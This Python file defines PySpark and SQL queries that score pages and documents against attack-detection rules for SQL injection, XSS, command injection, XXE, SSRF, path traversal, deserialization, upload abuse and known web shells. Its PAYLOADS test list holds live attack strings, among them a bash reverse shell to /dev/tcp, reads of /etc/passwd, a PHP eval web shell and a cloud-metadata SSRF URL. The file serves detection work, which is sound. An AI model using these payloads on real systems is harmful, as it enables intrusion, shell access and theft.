"""Queries of the rule-scoring family over pages, documents and hand-made payloads."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions.text import held
from ..operators import scoring as S
from ..registry import register, table
from ..rules import fixed as R

#: Hand-made payloads, one or more for every detector; part of every payload query beside all documents.
PAYLOADS = [
    "' OR 1=1--", "id=1 UNION SELECT NULL,2", "1; DROP TABLE t", "SLEEP(5)", "please select a union", "a'b", 'x=0xdeadbeefcafe CHAR(1,2)',
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:document.cookie", "<?php eval($_POST['cmd']); ?>", "{{7*7}}", "${7*7}", "Runtime.getRuntime().exec(x)",
    "; cat /etc/passwd", "bash -i >& /dev/tcp/10.0.0.1/4444", "../../../etc/passwd", "%2e%2e%2f%2e%2e%2fetc/passwd", "..%5c..%5cwin.ini", "a/../..", "100% sure +1",
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "<?xml version='1.0'?><a>gopher://x</a>", "url=http://169.254.169.254/latest", "http://localhost:80/ http://2130706433/",
    'O:4:"User":1:{s:1:"a";i:1;}', "rO0AB !!python/object", 'Content-Disposition: form-data; filename="shell.php.jpg"', 'filename="a.jsp" boundary=x', "GET /up/x.phtml?q=1", "hello world", "",
    "@ini_set('display_errors','0');@set_time_limit(0);eval($_POST['a'])", "z1=QGluaV9zZXQ&z2=base64_decode", "$post=Decrypt(file_get_contents('php://input'));eval($post)", "class X extends ClassLoader { methodBody=1 }", "[S]uid=0(root) gid=0[E]->|",
]


def payloads(spark: SparkSession, sf_dir: str) -> DataFrame:
    """(id, text): all documents, and the hand-made payloads under negative ids."""
    docs = table(spark, sf_dir, "documents").select(F.col("doc_id").alias("id"), "text")
    return docs.unionByName(spark.createDataFrame([(-1 - i, p) for i, p in enumerate(PAYLOADS)], "id long, text string"))


def quoted(s: str) -> str:
    return "'" + s.replace("'", "''") + "'"


PAYLOAD_SQL = "payloads AS (SELECT doc_id AS id, text FROM documents UNION ALL SELECT * FROM (VALUES " + ", ".join(f"({-1 - i}, {quoted(p)})" for i, p in enumerate(PAYLOADS)) + ") v(id, text))"


def sum_sql(rules, text: str) -> str:
    return "(" + " + ".join(f"CASE WHEN regexp_matches({text}, {quoted('(?is)' + p)}) THEN {w} ELSE 0 END" for p, w in rules.values()) + ")"


def first_sql(words: dict[str, int], text: str, test: str = "contains(lower({t}), {w})") -> str:
    return "(CASE " + " ".join(f"WHEN {test.format(t=text, w=quoted(k.lower()))} THEN {w}" for k, w in words.items()) + " ELSE 0 END)"


def odd_sql(text: str) -> str:
    def n(what: str) -> str:
        return f"(length(left({text}, 10000)) - length(replace(left({text}, 10000), {quoted(what)}, ''))) // {len(what)}"

    return "(CASE WHEN (" + n("'") + " - " + n("\\'") + ") % 2 <> 0 OR (" + n('"') + " - " + n('\\"') + ") % 2 <> 0 THEN 20 ELSE 0 END)"


def decode_sql(text: str) -> str:
    for _ in range(5):
        text = f"url_decode({text})"
    return text


def depth_sql(path: str) -> str:
    steps = f"string_split(replace({path}, chr(92), '/'), '/')"
    return f"list_reduce(list_prepend({{'c': '', 'cur': 0, 'top': 0}}, list_transform({steps}, lambda s: {{'c': s, 'cur': 0, 'top': 0}})), lambda a, s: {{'c': s.c, 'cur': CASE WHEN s.c = '..' THEN a.cur + 1 WHEN s.c <> '' AND s.c <> '.' THEN greatest(0, a.cur - 1) ELSE a.cur END, 'top': greatest(a.top, CASE WHEN s.c = '..' THEN a.cur + 1 ELSE 0 END)}}).top"


XML_SQL = "(contains(upper(text), '<?XML') OR contains(upper(text), '<!DOCTYPE') OR contains(upper(text), '<!ENTITY') OR starts_with(regexp_replace(text, '^\\s+', ''), '<'))"
FILES_SQL = "list_transform(list_concat(regexp_extract_all(text, '(?i)filename\\s*=\\s*[\"'']?([^\"'';\\r\\n]+)', 1), regexp_extract_all(text, '/([^/\\s?]+\\.\\w{2,5})(?:\\?|$|\\s)', 1)), lambda x: lower(x))"
EXT_SQL = first_sql(R.DANGEROUS_EXTENSIONS, "n", "ends_with({t}, {w})")
DOUBLE_SQL = "((" + " OR ".join(f"contains(n, '{d}')" for d in S.DOUBLE_FROM) + ") AND (" + " OR ".join(f"ends_with(n, '{i}')" for i in S.DOUBLE_TO) + "))"
SQL = {
    "sqli": f"{sum_sql(R.SQLI, 'text')} + {sum_sql(R.WAF_BYPASS, 'text')} + {odd_sql('text')}",
    "xss": sum_sql(R.XSS, "text"),
    "rce": sum_sql(R.RCE, "text"),
    "xxe": f"CASE WHEN {XML_SQL} THEN {sum_sql(R.XXE, 'text')} + {first_sql(R.DANGEROUS_PROTOCOLS, 'text')} ELSE 0 END",
    "ssrf": sum_sql(R.SSRF, "text"),
    "traversal": f"{sum_sql(R.TRAVERSAL, 'text')} + CASE WHEN plain <> text THEN {sum_sql(R.TRAVERSAL, 'plain')} ELSE 0 END + CASE WHEN depth >= 2 THEN depth * 20 ELSE 0 END + {first_sql(R.SENSITIVE_FILES, 'plain')}",
    "cmdi": sum_sql(R.CMDI, "text"),
    "deser": sum_sql(R.DESER, "text"),
    "upload": f"{sum_sql(R.UPLOAD, 'text')} + coalesce(list_sum(list_transform({FILES_SQL}, lambda n: {EXT_SQL} + CASE WHEN {DOUBLE_SQL} THEN 90 ELSE 0 END)), 0)",
}
PREPARED_SQL = f"WITH {PAYLOAD_SQL}, decoded AS MATERIALIZED (SELECT id, text, {decode_sql('text')} AS plain FROM payloads), prepared AS MATERIALIZED (SELECT *, {depth_sql('plain')} AS depth FROM decoded)"


def _score(name: str):
    least = S.THRESHOLD[name]

    @register(f"{name}_score", f"{PREPARED_SQL} SELECT id, w::BIGINT AS weight, w >= {least} AS detected FROM (SELECT id, ({SQL[name]}) AS w FROM prepared) WHERE w > 0")
    def run(spark: SparkSession, sf_dir: str) -> DataFrame:
        text = F.col("text")
        w = S.weights(text, F.lit("POST"), F.lit(""))[name].cast("long")
        return payloads(spark, sf_dir).select("id", held(w).alias("weight")).where("weight > 0").select("id", "weight", (F.col("weight") >= least).alias("detected"))


for _name in SQL:
    _score(_name)

_LEVEL = "CASE WHEN {w} >= 200 THEN 'critical' WHEN {w} >= 150 THEN 'high' WHEN {w} >= 80 THEN 'medium' WHEN {w} >= 40 THEN 'low' ELSE 'info' END"
_RANKED = ", ".join(f"{{'w': ({SQL[n] if n != 'upload' else '0'})::INT, 'r': {-rank}, 'n': '{n}'}}" for n, _, _, rank in S.DETECTORS)
_NOISE = "(" + " + ".join(f"CASE WHEN regexp_matches(uri, {quoted('(?is)' + p)}) THEN {w} ELSE 0 END" for p, w in S.NOISE) + ")"


@register("attack_merge_level", f"""WITH p AS (SELECT page_id AS id, url AS uri, html AS text FROM pages), decoded AS MATERIALIZED (SELECT *, {decode_sql('text')} AS plain FROM p), prepared AS MATERIALIZED (SELECT *, {depth_sql('plain')} AS depth FROM decoded),
s AS MATERIALIZED (SELECT id, uri, [{_RANKED}] AS ws FROM prepared), t AS (SELECT id, uri, list_sum(list_transform(ws, lambda x: x.w))::BIGINT AS raw, list_sort(ws, 'DESC')[1] AS best FROM s)
SELECT id AS page_id, greatest(0, raw + {_NOISE})::BIGINT AS total_weight, raw >= 40 AS detected, CASE WHEN best.w > 0 THEN best.n END AS attack_type, {_LEVEL.format(w=f'greatest(0, raw + {_NOISE})')} AS threat_level FROM t""")
def attack_merge_level(spark: SparkSession, sf_dir: str) -> DataFrame:
    """All detectors over all pages: total weight less what harmless URIs take off, heaviest type, level."""
    scored = S.attack_scores(table(spark, sf_dir, "pages"), "html", uri=F.col("url"))
    return scored.select("page_id", F.col("total_weight").cast("long").alias("total_weight"), "detected", "attack_type", "threat_level")


@register("page_attack_levels", f"WITH p AS (SELECT page_id, ({sum_sql(R.XSS, 'html')} + {sum_sql(R.SSRF, 'html')})::BIGINT AS w FROM pages) SELECT {_LEVEL.format(w='w')} AS threat_level, count(*) AS pages, sum(w)::BIGINT AS weight FROM p WHERE w >= 40 GROUP BY 1")
def page_attack_levels(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Pages by level of their cross-site and request-forgery weight, 40 and over."""
    w = (S.rule_weight(F.col("html"), R.XSS) + S.rule_weight(F.col("html"), R.SSRF)).cast("long")
    return table(spark, sf_dir, "pages").select(held(w).alias("w")).where("w >= 40").groupBy(S.level(F.col("w")).alias("threat_level")).agg(F.count("*").alias("pages"), F.sum("w").alias("weight"))


@register("weight_threshold_topk", f"SELECT page_id, w AS weight FROM (SELECT page_id, ({sum_sql(R.XSS, 'html')})::BIGINT AS w FROM pages) WHERE w >= 20 ORDER BY w DESC, page_id LIMIT 20")
def weight_threshold_topk(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The twenty heaviest pages, first ones on ties: a top-k report."""
    w = S.rule_weight(F.col("html"), R.XSS).cast("long")
    return table(spark, sf_dir, "pages").select("page_id", held(w).alias("weight")).where("weight >= 20").orderBy(F.desc("weight"), "page_id").limit(20)


@register("rule_theta_join", "WITH r(name, pattern, weight) AS (VALUES " + ", ".join(f"('{n}', {quoted('(?is)' + p)}, {w})" for n, (p, w) in R.SQLI.items()) + f"), {PAYLOAD_SQL} SELECT r.name, count(*) AS hits, sum(r.weight)::BIGINT AS weight FROM payloads JOIN r ON regexp_matches(text, r.pattern) GROUP BY r.name")
def rule_theta_join(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Payloads joined to rules by match; unrolled into one projection instead of a nested loop."""
    names = S.rule_names(F.col("text"), "", R.SQLI)
    weight = F.create_map(*[F.lit(x) for n, (_, w) in R.SQLI.items() for x in (n, w)])
    hits = payloads(spark, sf_dir).select(F.explode(names).alias("n")).select(F.substring("n", 2, 100).alias("name"))
    return hits.groupBy("name").agg(F.count("*").alias("hits"), F.sum(F.element_at(weight, F.col("name"))).cast("long").alias("weight"))


def _shell_sql(indicators, divide: int = 1) -> str:
    return "(" + " + ".join(f"CASE WHEN regexp_matches(text, {quoted(('(?is)' if d else '(?i)') + p)}) THEN {w // divide} ELSE 0 END" for _, p, w, d in indicators) + ")"


_CONF = "CASE WHEN w >= 100 THEN 'high' WHEN w >= 75 THEN 'medium' WHEN w >= 60 THEN 'low' WHEN w >= 30 THEN 'suspicious' ELSE 'none' END"
for _tool, _lists in {"antsword": [(R.ANTSWORD_INDICATORS, 1), (R.RESPONSE_INDICATORS, 2)], "caidao": [(R.CAIDAO_INDICATORS, 1), (R.ANTSWORD_INDICATORS, 2)], "behinder": [(R.BEHINDER_INDICATORS, 1)], "godzilla": [(R.GODZILLA_INDICATORS, 1)]}.items():

    @register(f"webshell_{_tool}", f"WITH {PAYLOAD_SQL} SELECT id, w::BIGINT AS weight, {_CONF} AS confidence FROM (SELECT id, {' + '.join(_shell_sql(i, d) for i, d in _lists)} AS w FROM payloads) WHERE w > 0")
    def _webshell(spark: SparkSession, sf_dir: str, lists=_lists) -> DataFrame:
        """Indicators of one web shell, some lists at part of their weight, and the confidence of the sum."""
        w = S.total([S.indicator_weight(F.col("text"), i, d) for i, d in lists]).cast("long")
        return payloads(spark, sf_dir).select("id", held(w).alias("weight")).where("weight > 0").select("id", "weight", S.confidence(F.col("weight")).alias("confidence"))


@register("quote_parity", f"WITH {PAYLOAD_SQL} SELECT id, {odd_sql('text')} = 20 AS odd FROM payloads")
def quote_parity(spark: SparkSession, sf_dir: str) -> DataFrame:
    return payloads(spark, sf_dir).select("id", S.odd_quotes(F.col("text")).alias("odd"))


@register("multi_url_decode", f"WITH {PAYLOAD_SQL} SELECT id, {decode_sql('text')} AS plain FROM payloads WHERE id < 0 UNION ALL SELECT page_id, {decode_sql('url')} FROM pages")
def multi_url_decode(spark: SparkSession, sf_dir: str) -> DataFrame:
    from ..functions.text import url_decoded

    own = payloads(spark, sf_dir).where("id < 0").select("id", url_decoded(F.col("text"), 5).alias("plain"))
    return own.unionByName(table(spark, sf_dir, "pages").select(F.col("page_id").alias("id"), url_decoded(F.col("url"), 5).alias("plain")))


@register("traversal_depth", f"{PREPARED_SQL} SELECT id, depth::INT AS depth FROM prepared")
def depth(spark: SparkSession, sf_dir: str) -> DataFrame:
    from ..functions.text import traversal_depth, url_decoded

    return payloads(spark, sf_dir).select("id", traversal_depth(url_decoded(F.col("text"), 5)).cast("int").alias("depth"))
